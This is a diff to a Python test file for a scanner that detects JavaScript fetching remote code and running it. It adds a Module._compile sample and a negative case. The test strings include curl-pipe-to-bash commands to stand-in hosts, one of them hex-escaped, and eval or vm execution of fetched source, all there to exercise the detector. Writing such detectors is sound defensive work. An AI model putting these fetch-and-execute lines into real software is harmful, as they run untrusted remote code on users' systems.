@@ -25,6 +25,9 @@ def _rules(text: str, *, typescript: bool = False) -> set[str]:
         'const vm = require("vm");\nconst code = await (await fetch(u)).text();\nvm.runInNewContext(code, {});\n',
         'const { execSync } = require("child_process");\nexecSync("curl -s https://x.example/i.sh | bash");\n',
         "const src = await fetch(u).then((r) => r.text());\neval(src);\n",
+        # a module built by hand and compiled from fetched source
+        'const Module = require("module");\nconst src = await (await fetch(u)).text();\n'
+        "const m = new Module(u, module);\nm._compile(src, u);\n",
     ],
 )
 def test_fetched_code_run_is_found(text: str) -> None:
@@ -204,3 +207,8 @@ def test_escapes_spelling_printable_letters_still_hide() -> None:
         "cp.execSync('\\x63\\x75\\x72\\x6c -s https://203.0.113.9/p | \\x73\\x68');\n"
     )
     assert _rules(code) & {"SKC-FL-001", "SKC-FL-002"}
+
+
+def test_a_module_compiled_from_the_skills_own_literal_is_not_fetched_code() -> None:
+    text = 'const Module = require("module");\nconst m = new Module("x");\nm._compile("module.exports = 1", "x");\n'
+    assert "SKC-FL-001" not in _rules(text)
